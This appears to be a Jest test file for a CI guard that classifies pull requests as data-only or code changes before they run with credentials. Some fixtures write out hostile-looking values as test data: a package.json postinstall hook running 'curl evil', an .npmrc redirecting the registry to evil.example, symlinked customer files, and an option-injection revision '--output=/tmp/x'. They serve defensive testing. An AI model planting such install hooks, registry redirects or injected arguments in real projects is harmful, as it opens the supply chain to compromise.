/**
 * `change-kind` decides what a pull request may run with credentials: data only (customers,
 * services, the inventory, the snapshot) or code. Each test builds a real git repository with a
 * main branch and a pull-request branch and asks the command about `main...pr`.
 */
import { execFileSync, spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { changesBetween, decideChangeKind, parseRawDiff } from "../src/operations/change-kind";
import { UserError } from "../src/user-error";
import { PROJECT_ROOT } from "../testkit/temp-project";

const CUSTOMER = 'export default { clientId: "acme-logistics" };\n';

/** What main holds before the pull request branches off. */
const BASE_FILES: Record<string, string> = {
  "clients/acme-logistics.ts": CUSTOMER,
  "scopes/orders-api.ts": 'export default { clientId: "orders-api" };\n',
  "customers.inventory.json": '{ "environments": {} }\n',
  "__tests__/__snapshots__/example-stacks.test.ts.snap": "// Jest Snapshot v1\n",
  "src/operations/plan.ts": "export {};\n",
  "environments.ts": "export const environments = {};\n",
  "package.json": "{}\n",
  "package-lock.json": "{}\n",
  ".github/workflows/keycloak-api-keys.yml": "on: push\n",
};

let repo: string;

function git(...args: string[]): string {
  return execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example", "-c", "commit.gpgsign=false", ...args], { cwd: repo, encoding: "utf8" });
}

function write(files: Record<string, string>): void {
  for (const [file, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(repo, file)), { recursive: true });
    fs.writeFileSync(path.join(repo, file), content);
  }
}

/** Commits every change of the work tree on the current branch. */
function commit(message: string): void {
  git("add", "--all");
  git("commit", "--quiet", "--allow-empty", "-m", message);
}

/** A pull-request branch `pr` off main; `change` edits the work tree, which is then committed on it. */
function pullRequest(change: () => void): void {
  git("switch", "--quiet", "-c", "pr");
  change();
  commit("pull request");
}

const decide = () => decideChangeKind(changesBetween(repo, "main", "pr"));

/** A new customer, the snapshot and the inventory it updates: what an onboarding pull request holds. */
function onboard(): void {
  write({
    "clients/hooli-xyz.ts": 'export default { clientId: "hooli-xyz" };\n',
    "__tests__/__snapshots__/example-stacks.test.ts.snap": "// Jest Snapshot v1\n// hooli-xyz\n",
    "customers.inventory.json": '{ "environments": { "sandbox": ["hooli-xyz"] } }\n',
  });
}

beforeEach(() => {
  repo = fs.mkdtempSync(path.join(os.tmpdir(), "change-kind-"));
  git("init", "--quiet", "--initial-branch=main");
  write(BASE_FILES);
  commit("base");
});

afterEach(() => fs.rmSync(repo, { recursive: true, force: true }));

describe("change-kind", () => {
  test("decides data when a pull request adds a customer, updates the snapshot and the inventory", () => {
    pullRequest(onboard);
    expect(decide()).toEqual({
      kind: "data",
      codePaths: [],
      dataPaths: ["__tests__/__snapshots__/example-stacks.test.ts.snap", "clients/hooli-xyz.ts", "customers.inventory.json"],
    });
  });

  test("decides data when a pull request removes a customer and edits a service", () => {
    pullRequest(() => {
      fs.rmSync(path.join(repo, "clients/acme-logistics.ts"));
      write({ "scopes/orders-api.ts": 'export default { clientId: "orders-api", permissions: [] };\n' });
    });
    expect(decide()).toMatchObject({ kind: "data", dataPaths: ["clients/acme-logistics.ts", "scopes/orders-api.ts"] });
  });

  test("decides data when main changed code after the pull request branched off (merge-base, like a pull request)", () => {
    pullRequest(onboard);
    git("switch", "--quiet", "main");
    write({ "src/operations/plan.ts": "export const changedOnMain = true;\n" });
    commit("code on main");
    expect(decide().kind).toBe("data");
  });

  test.each<[string, string, () => void]>([
    ["a source file changes", "src/operations/plan.ts", () => write({ "src/operations/plan.ts": "process.exit(0);\n" })],
    ["environments.ts changes", "environments.ts", () => write({ "environments.ts": "export const environments = { evil: {} };\n" })],
    ["package.json changes", "package.json", () => write({ "package.json": '{ "scripts": { "postinstall": "curl evil" } }\n' })],
    ["the lock file changes", "package-lock.json", () => write({ "package-lock.json": '{ "lockfileVersion": 3 }\n' })],
    ["a workflow changes", ".github/workflows/keycloak-api-keys.yml", () => write({ ".github/workflows/keycloak-api-keys.yml": "on: pull_request\n" })],
    ["a new top-level file appears", ".npmrc", () => write({ ".npmrc": "registry=https://evil.example\n" })],
    ["a customer file sits in a subfolder of clients/", "clients/sub/hooli-xyz.ts", () => write({ "clients/sub/hooli-xyz.ts": CUSTOMER })],
    ["a .js file appears in clients/", "clients/hooli-xyz.js", () => write({ "clients/hooli-xyz.js": "module.exports = {};\n" })],
    ["a source file is deleted", "src/operations/plan.ts", () => fs.rmSync(path.join(repo, "src/operations/plan.ts"))],
    ["a customer file is a symlink", "clients/hooli-xyz.ts", () => fs.symlinkSync("../environments.ts", path.join(repo, "clients/hooli-xyz.ts"))],
    [
      "a customer file becomes a symlink",
      "clients/acme-logistics.ts",
      () => {
        fs.rmSync(path.join(repo, "clients/acme-logistics.ts"));
        fs.symlinkSync("../environments.ts", path.join(repo, "clients/acme-logistics.ts"));
      },
    ],
    ["a customer file becomes executable", "clients/acme-logistics.ts", () => fs.chmodSync(path.join(repo, "clients/acme-logistics.ts"), 0o755)],
    ["a customer file's name starts with a dot", "clients/.hooli-xyz.ts", () => write({ "clients/.hooli-xyz.ts": CUSTOMER })],
  ])("decides code when %s, naming %s", (_what, codePath, change) => {
    pullRequest(change);
    expect(decide()).toEqual({ kind: "code", codePaths: [codePath], dataPaths: [] });
  });

  test("decides code when a pull request mixes a new customer with a source change, naming only the source file", () => {
    pullRequest(() => {
      onboard();
      write({ "src/operations/plan.ts": "process.exit(0);\n" });
    });
    expect(decide()).toEqual({
      kind: "code",
      codePaths: ["src/operations/plan.ts"],
      dataPaths: ["__tests__/__snapshots__/example-stacks.test.ts.snap", "clients/hooli-xyz.ts", "customers.inventory.json"],
    });
  });

  test("fails when the base is not a revision of the repository", () => {
    pullRequest(onboard);
    expect(() => changesBetween(repo, "no-such-branch", "pr")).toThrow(
      new UserError("could not compare no-such-branch...pr: bad revision 'no-such-branch...pr'"),
    );
  });

  test("fails when a revision looks like an option, before git sees it", () => {
    expect(() => changesBetween(repo, "--output=/tmp/x", "HEAD")).toThrow(new UserError('not a git revision: "--output=/tmp/x"'));
  });

  test("fails when git's raw output is not what it documents", () => {
    expect(() => parseRawDiff(":100644 100644 abc def M\0")).toThrow(new Error('unexpected git diff --raw output: ":100644 100644 abc def M"'));
  });
});

describe("the change-kind command", () => {
  const run = (...args: string[]) =>
    spawnSync("npx", ["--prefix", PROJECT_ROOT, "--no-install", "tsx", path.join(PROJECT_ROOT, "src/cli/main.ts"), "change-kind", ...args], {
      cwd: repo,
      encoding: "utf8",
    });

  test("decides code when run on a repository, printing the kind, each code path, and exit status 0; --json; a one-line error", () => {
    pullRequest(() => {
      onboard();
      write({ "package.json": '{ "scripts": { "postinstall": "curl evil" } }\n', ".npmrc": "registry=https://evil.example\n" });
    });
    expect(run("--base", "main", "--head", "pr")).toMatchObject({ status: 0, stdout: "code\ncode: .npmrc\ncode: package.json\n", stderr: "" });
    git("switch", "--quiet", "main");
    git("switch", "--quiet", "-c", "data-only");
    onboard();
    commit("onboarding");
    expect(run("--base", "main", "--json")).toMatchObject({
      status: 0,
      stdout: `${JSON.stringify({ kind: "data", codePaths: [], dataPaths: ["__tests__/__snapshots__/example-stacks.test.ts.snap", "clients/hooli-xyz.ts", "customers.inventory.json"] })}\n`,
    });
    expect(run("--head", "pr")).toMatchObject({
      status: 1,
      stdout: "",
      stderr: "error: required option '--base <git rev>' not specified\n(add --help for usage)\n",
    });
  });
});
